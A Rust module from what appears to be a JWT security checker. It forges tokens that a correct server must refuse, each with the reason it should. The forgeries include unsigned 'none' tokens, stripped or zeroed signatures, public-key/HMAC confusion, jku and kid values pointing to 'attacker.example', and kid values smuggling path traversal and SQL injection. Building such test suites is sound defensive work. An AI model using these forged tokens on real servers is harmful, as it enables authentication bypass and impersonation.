//! The attack set: tokens that a right server refuses, each with why, made from a token at hand. It sends nothing, and
//! a server is asked only where a person chose so. Sources: RFC 8725, and the published attacks that led to it.

use super::algorithm::{Algorithm, Family};
use super::base64url::{decode, encode};
use super::editor::{Draft, compact, text_of, time};
use super::test_key::{TestKey, hmac};
use check::network::Revealed;
use check::token::Attack;
use document::quote;

/// What attacks are made with.
pub struct AttackMaterial<'a> {
    /// The moment of the check, in seconds since 1970.
    pub as_of_seconds: i64,
    /// Seed of the key that the server does not know.
    pub seed: u64,
    /// The server's public key as it publishes it (PEM or JWK), for the key confusion; empty: not at hand.
    pub public_key: &'a str,
    /// A key that the server trusts (a test key of a test server). With it, tokens with wrong claims are made too;
    /// without it, a wrong claim would hide behind a wrong signature.
    pub trusted_key: Option<&'a TestKey>,
}

const REFUSED: &str = "401 with `WWW-Authenticate: Bearer error=\"invalid_token\"` (RFC 6750 §3.1)";
const HOUR: i64 = 3_600;

struct Set {
    attacks: Vec<Attack>,
}

impl Set {
    fn add(&mut self, id: &str, name: &str, why: &str, token: Revealed) {
        self.attacks.push(Attack {
            id: id.into(),
            name: name.into(),
            why: why.into(),
            must_answer: REFUSED.into(),
            expected_status: 401,
            token,
        });
    }
}

/// The attack set of a signed token. First comes a control that must be accepted, so that a server which refuses
/// everything is not taken for a right one; it is left out where the token at hand has expired and no trusted key can
/// renew it. An error is a sentence: there is no signed token in the text.
pub fn attacks(token: &str, material: &AttackMaterial<'_>) -> Result<Vec<Attack>, String> {
    let draft = Draft::of(token)?;
    let mut set = Set { attacks: Vec::new() };
    control(&mut set, token, &draft, material)?;
    unsigned(&mut set, &draft)?;
    stripped(&mut set, token)?;
    foreign_keys(&mut set, &draft, material)?;
    key_ids(&mut set, &draft)?;
    if let Some(key) = material.trusted_key {
        wrong_claims(&mut set, &draft, key, material.as_of_seconds)?;
    }
    Ok(set.attacks)
}

fn control(set: &mut Set, token: &str, draft: &Draft, material: &AttackMaterial<'_>) -> Result<(), String> {
    let now = material.as_of_seconds;
    let token = match material.trusted_key {
        Some(key) => fresh(draft, now)?.signed(key)?,
        None if time(&draft.claims, "exp").is_some_and(|expires| expires <= now) => return Ok(()),
        None => Revealed(compact(token)?),
    };
    set.attacks.push(Attack {
        id: "control".into(),
        name: "The right token, as a control".into(),
        why: "A server that refuses this one too would seem to stand every attack.".into(),
        must_answer: "2xx".into(),
        expected_status: 200,
        token,
    });
    Ok(())
}

/// The claims with times that are right now, for an hour.
fn fresh(draft: &Draft, now: i64) -> Result<Draft, String> {
    let mut draft = draft.clone();
    draft.change(&check::token::TokenChange::SetTimes { from_seconds: now, lifetime_seconds: HOUR })?;
    Ok(draft)
}

fn unsigned(set: &mut Set, draft: &Draft) -> Result<(), String> {
    for (id, spelling) in [
        ("alg-none", "none"),
        ("alg-none-capitalised", "None"),
        ("alg-none-upper-case", "NONE"),
        ("alg-none-mixed-case", "nOnE"),
    ] {
        let unsigned = draft.with_header("alg", &quote(spelling))?;
        set.add(
            id,
            &format!("Not signed: alg {spelling}"),
            "The server takes the algorithm from the token, and lets `none` pass (RFC 8725 §3.2).",
            Revealed(format!("{}.", unsigned.signing_input())),
        );
    }
    Ok(())
}

fn stripped(set: &mut Set, text: &str) -> Result<(), String> {
    let token = compact(text)?;
    let mut parts = token.splitn(3, '.');
    let (Some(header), Some(claims), Some(signature)) = (parts.next(), parts.next(), parts.next()) else {
        return Ok(());
    };
    set.add(
        "signature-stripped",
        "The signature taken away",
        "The server checks a signature only where there is one.",
        Revealed(format!("{header}.{claims}.")),
    );
    set.add(
        "signature-absent",
        "The signature taken away, with its dot",
        "The server reads the claims before it counts the parts.",
        Revealed(format!("{header}.{claims}")),
    );
    if let Some(mut bytes) = decode(signature).bytes.filter(|bytes| !bytes.is_empty()) {
        bytes[0] ^= 1;
        set.add(
            "signature-changed",
            "One bit of the signature changed",
            "The server does not check the signature at all.",
            Revealed(format!("{header}.{claims}.{}", encode(&bytes))),
        );
    }
    let draft = Draft::of(text)?.with_claim("sub", &quote("somebody-else"))?;
    let changed = draft.signing_input();
    let changed = changed.split_once('.').map_or("", |(_, claims)| claims);
    set.add(
        "payload-tampered",
        "Another sub under the old signature",
        "The server reads claims without checking that the signature covers them.",
        Revealed(format!("{header}.{changed}.{signature}")),
    );
    Ok(())
}

fn foreign_keys(set: &mut Set, draft: &Draft, material: &AttackMaterial<'_>) -> Result<(), String> {
    let named = text_of(&draft.header, "alg").and_then(|name| Algorithm::named(&name));
    // The RSA test key is a published one, and a test server may trust it; ES256 stands in for it.
    let algorithm = match named.map(Algorithm::family) {
        None | Some(Family::Rsa) => Algorithm::Es256,
        Some(_) => named.unwrap_or(Algorithm::Es256),
    };
    let foreign = TestKey::from_seed(algorithm, material.seed ^ 0x5eed)?;
    let with_algorithm = draft.with_header("alg", &quote(algorithm.name()))?;
    set.add(
        "unknown-key",
        "Signed by a key that the server does not know",
        "The server checks the form of the signature, or takes any key.",
        with_algorithm.signed_as_it_is(&foreign)?,
    );
    let asymmetric = match foreign.public_jwk() {
        Some(_) => foreign,
        None => TestKey::from_seed(Algorithm::Es256, material.seed ^ 0x5eed)?,
    };
    let name = quote(asymmetric.algorithm().name());
    let jwk = asymmetric.public_jwk().unwrap_or_default();
    set.add(
        "jwk-embedded",
        "Signed by a key that the header brings along",
        "The server checks with the `jwk` of the header (RFC 8725 §3.10, CVE-2018-0114).",
        draft.with_header("alg", &name)?.with_header("jwk", &jwk)?.signed_as_it_is(&asymmetric)?,
    );
    set.add(
        "jku-foreign",
        "The header names keys at a foreign address",
        "The server fetches keys from where the sender says (RFC 8725 §3.10); watch whether it asks that host.",
        draft
            .with_header("alg", &name)?
            .with_header("jku", &quote("https://attacker.example/jwks.json"))?
            .signed_as_it_is(&asymmetric)?,
    );
    let blank = draft.with_header("alg", &quote("HS256"))?;
    set.add(
        "blank-secret",
        "HMAC with an empty secret",
        "The server's secret is not set.",
        by_hmac(&blank, b""),
    );
    let zero = draft.with_header("alg", &quote("ES256"))?.signing_input();
    set.add(
        "zero-signature",
        "ECDSA with a signature of zeros",
        "The library lets r = s = 0 pass (CVE-2022-21449).",
        Revealed(format!("{zero}.{}", encode(&[0; 64]))),
    );
    let public = material.public_key;
    if !public.trim().is_empty() && named.is_none_or(|algorithm| algorithm.family() != Family::Hmac) {
        let confused =
            "The server takes its public key for an HMAC secret, since the token says so (RFC 8725 §2.1).";
        let trimmed = public.trim();
        let with_break = format!("{trimmed}\n");
        set.add(
            "key-confusion",
            "HMAC with the public key as the secret",
            confused,
            by_hmac(&blank, trimmed.as_bytes()),
        );
        set.add(
            "key-confusion-line-break",
            "HMAC with the public key and a line break as the secret",
            confused,
            by_hmac(&blank, with_break.as_bytes()),
        );
    }
    Ok(())
}

fn by_hmac(draft: &Draft, secret: &[u8]) -> Revealed {
    let input = draft.signing_input();
    let signature = hmac(Algorithm::Hs256, secret, input.as_bytes());
    Revealed(format!("{input}.{}", encode(&signature)))
}

fn key_ids(set: &mut Set, draft: &Draft) -> Result<(), String> {
    let blank = draft.with_header("alg", &quote("HS256"))?;
    for (id, name, key_id, secret, why) in [
        (
            "kid-path",
            "A path as the key id",
            "../../../../../../dev/null",
            &b""[..],
            "The server reads the key from a file of that name, and an empty file is an empty secret.",
        ),
        (
            "kid-sql",
            "SQL as the key id",
            "x' UNION SELECT 'preflight'-- ",
            b"preflight",
            "The server builds a query of the key id, and the sender chooses the key that it finds.",
        ),
        (
            "kid-address",
            "An address as the key id",
            "https://attacker.example/key",
            b"preflight",
            "The server fetches the key from where the sender says; watch whether it asks that host.",
        ),
    ] {
        set.add(id, name, why, by_hmac(&blank.with_header("kid", &quote(key_id))?, secret));
    }
    Ok(())
}

fn wrong_claims(set: &mut Set, draft: &Draft, key: &TestKey, now: i64) -> Result<(), String> {
    use check::token::TokenChange::{RemoveClaim, SetTimes};
    let right = fresh(draft, now)?;
    let mut expired = draft.clone();
    expired.change(&SetTimes { from_seconds: now.saturating_sub(2 * HOUR), lifetime_seconds: HOUR })?;
    set.add("expired", "Expired an hour ago", "The server does not look at `exp`.", expired.signed(key)?);
    let mut edge = draft.clone();
    edge.change(&SetTimes { from_seconds: now.saturating_sub(HOUR), lifetime_seconds: HOUR - 301 })?;
    set.add(
        "expired-beyond-leeway",
        "Expired 301 seconds ago",
        "The server's leeway is more than five minutes (RFC 7519 §4.1.4: no more than a few).",
        edge.signed(key)?,
    );
    set.add(
        "not-yet-valid",
        "Valid in an hour",
        "The server does not look at `nbf`.",
        right
            .with_claim("nbf", &now.saturating_add(HOUR).to_string())?
            .with_claim("exp", &now.saturating_add(2 * HOUR).to_string())?
            .signed(key)?,
    );
    let mut eternal = right.clone();
    eternal.change(&RemoveClaim { name: "exp".into() })?;
    set.add(
        "no-expiry",
        "Without exp",
        "The server lets tokens live for ever (RFC 9068 §2.2 requires `exp`).",
        eternal.signed(key)?,
    );
    set.add(
        "expiry-as-text",
        "exp as a string",
        "The server compares `exp` as text, or skips what is no number (RFC 7519 §2).",
        right.with_claim("exp", &quote(&now.saturating_sub(HOUR).to_string()))?.signed(key)?,
    );
    set.add(
        "wrong-audience",
        "For another audience",
        "The server takes tokens that were issued for somebody else (RFC 8725 §3.9).",
        right.with_claim("aud", &quote("https://other.example"))?.signed(key)?,
    );
    set.add(
        "wrong-issuer",
        "Of another issuer",
        "The server does not look at `iss` (RFC 8725 §3.8).",
        right.with_claim("iss", &quote("https://attacker.example"))?.signed(key)?,
    );
    set.add(
        "wrong-type",
        "A logout token as an access token",
        "The server takes one kind of token for another (RFC 8725 §3.11).",
        right.with_header("typ", &quote("logout+jwt"))?.signed(key)?,
    );
    set.add(
        "unknown-critical",
        "A critical name that nobody knows",
        "The server ignores `crit` (RFC 7515 §4.1.11).",
        right
            .with_header("crit", r#"["preflight-unknown"]"#)?
            .with_header("preflight-unknown", "true")?
            .signed(key)?,
    );
    Ok(())
}
